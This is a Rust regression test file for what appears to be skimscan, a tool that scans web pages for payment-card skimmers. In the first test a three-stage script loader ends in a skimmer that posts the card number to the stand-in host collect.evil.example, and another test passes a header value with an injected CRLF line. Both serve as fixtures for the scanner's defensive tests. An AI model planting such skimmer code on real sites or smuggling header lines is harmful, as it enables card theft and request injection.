//! Regression tests for the problems a review of the pipeline found (2026-11-24): each test
//! names what used to go wrong.

mod common;
use common::*;

fn write(dir: &std::path::Path, rel: &str, body: &str) -> std::path::PathBuf {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, body).unwrap();
    p
}

/// Used to: scripts loaded by a script that was itself loaded at run time were dropped, and a
/// three-stage loader chain scanned "clean" and complete.
#[test]
fn loader_chains_are_followed_to_the_skimmer() {
    let s = serve(vec![
        (
            "/checkout",
            html(
                r#"<html><body><form><input name="cardnumber" autocomplete="cc-number"></form>
            <script>var s=document.createElement('script');s.src='/stage2.js';document.head.appendChild(s);</script></body></html>"#,
            ),
        ),
        (
            "/stage2.js",
            js(
                "var t=document.createElement('script');t.src='/stage3.js';document.body.appendChild(t);",
            ),
        ),
        (
            "/stage3.js",
            js(
                "document.forms[0].addEventListener('submit',function(){fetch('https://collect.evil.example/c',{method:'POST',body:document.getElementById('cardnumber').value});});",
            ),
        ),
    ]);
    let (code, report, _) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &s.url("shop.test", "/checkout"),
    ]);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(s.hits("/stage3.js"), 1);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "payment-data-exfiltration"
                && f["hosts"][0] == "collect.evil.example"),
        "{report:#}"
    );
    let kinds: Vec<&str> = report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds.iter().filter(|k| **k == "dynamic").count(),
        2,
        "{kinds:?}"
    );
}

/// Used to: `//cdn.example/x.js` in a local page was recorded as a first-party file URL.
#[test]
fn protocol_relative_script_of_a_local_page_is_third_party() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "site/index.html",
        r#"<form><input autocomplete="cc-number" name="n"></form><script src="//cdn.widgets.example/x.js"></script>"#,
    );
    let (_, report, _) = scan_json(&[p.to_str().unwrap()]);
    let s = &report["scripts"][0];
    assert_eq!(s["url"], "https://cdn.widgets.example/x.js", "{report:#}");
    assert_eq!(s["party"], "third");
    assert_eq!(s["host"], "cdn.widgets.example");
    assert_eq!(
        report["complete"], true,
        "not fetched by policy is not an error"
    );
    let rules = rules_of(&report);
    assert!(
        rules.contains(&"third-party-script-without-sri".to_string()),
        "{rules:?}"
    );
}

/// Used to: the same target twice (or with a #fragment) gave duplicate pages and scripts.
#[test]
fn duplicate_targets_are_one_page() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "a.html", "<script>var a = 1;</script>");
    let p = p.to_str().unwrap();
    let (_, report, _) = scan_json(&[p, p]);
    assert_eq!(report["pages"].as_array().unwrap().len(), 1);
    assert_eq!(report["scripts"].as_array().unwrap().len(), 1);
    let s = serve(vec![("/", html("<p>hi</p>"))]);
    let u = s.url("shop.test", "/");
    let (_, report, _) = scan_json(&[
        "--resolve",
        &s.resolve("shop.test"),
        &u,
        &format!("{u}#top"),
    ]);
    assert_eq!(report["pages"].as_array().unwrap().len(), 1, "{report:#}");
    assert_eq!(s.hits("/"), 1);
}

/// Used to: a local link to `/checkout/` failed with "is a directory".
#[test]
fn local_link_to_a_folder_loads_its_index_page() {
    let dir = tempfile::tempdir().unwrap();
    let home = write(
        dir.path(),
        "site/index.html",
        r#"<a href="/checkout/">Checkout</a>"#,
    );
    write(
        dir.path(),
        "site/checkout/index.html",
        r#"<form><input autocomplete="cc-number" name="n"></form>"#,
    );
    let (code, report, _) = scan_json(&[home.to_str().unwrap()]);
    assert_ne!(code, 3, "{report:#}");
    let pages = report["pages"].as_array().unwrap();
    assert!(
        pages.iter().any(|p| p["payment_form"] == true),
        "{report:#}"
    );
}

/// Used to: credentials in a target URL were copied into every report.
#[test]
fn credentials_in_a_target_url_never_reach_the_report() {
    let s = serve(vec![("/", html("<p>hi</p>"))]);
    let u = format!("http://user:s3cret@shop.test:{}/", s.port());
    let out = skimscan()
        .args([
            "scan",
            "--format",
            "json",
            "--resolve",
            &s.resolve("shop.test"),
            &u,
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("shop.test"), "{text}");
    assert!(!text.contains("s3cret"), "{text}");
}

/// Used to: an unwritable --output failed only after the whole scan; an empty site directory
/// and an unbounded --retries were accepted.
#[test]
fn bad_output_paths_empty_sites_and_huge_retries_are_usage_errors() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "a.html", "<p>hi</p>");
    let p = p.to_str().unwrap();
    let missing = dir.path().join("no/such/dir/r.json");
    skimscan()
        .args(["scan", "-o", missing.to_str().unwrap(), p])
        .assert()
        .code(2);
    std::fs::create_dir(dir.path().join("empty")).unwrap();
    skimscan()
        .args(["scan", dir.path().join("empty").to_str().unwrap()])
        .assert()
        .code(2);
    skimscan()
        .args(["scan", "--retries", "100000", p])
        .assert()
        .code(2);
    skimscan()
        .args(["scan", "--header", "X-A: b\r\nX-Injected: 1", p])
        .assert()
        .code(2);
}

/// Used to: a FIFO named *.html in a site directory hung the scan forever.
#[cfg(unix)]
#[test]
fn fifos_are_not_read() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "site/index.html", "<p>hi</p>");
    let fifo = dir.path().join("site/b.html");
    let ok = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    if !ok {
        return; // no mkfifo on this machine: nothing to test
    }
    let (_, report, _) = scan_json(&[dir.path().join("site").to_str().unwrap()]);
    assert_eq!(report["pages"].as_array().unwrap().len(), 1, "{report:#}");
    skimscan()
        .args(["scan", fifo.to_str().unwrap()])
        .assert()
        .code(2);
}

/// Used to: a script with an integrity attribute that failed to load was reported as having
/// no SRI.
#[test]
fn integrity_attribute_counts_when_the_script_could_not_be_checked() {
    let s = serve(vec![(
        "/c",
        html(
            r#"<form><input autocomplete="cc-number" name="n"></form><script src="http://cdn.vendor.test/x.js" integrity="sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC" crossorigin></script>"#,
        ),
    )]);
    let (_, report, _) = scan_json(&[
        "--retries",
        "0",
        "--timeout",
        "2",
        "--resolve",
        &s.resolve("shop.test"),
        "--resolve",
        "cdn.vendor.test:80:127.0.0.1",
        &s.url("shop.test", "/c"),
    ]);
    assert!(
        !rules_of(&report).contains(&"third-party-script-without-sri".to_string()),
        "{report:#}"
    );
}
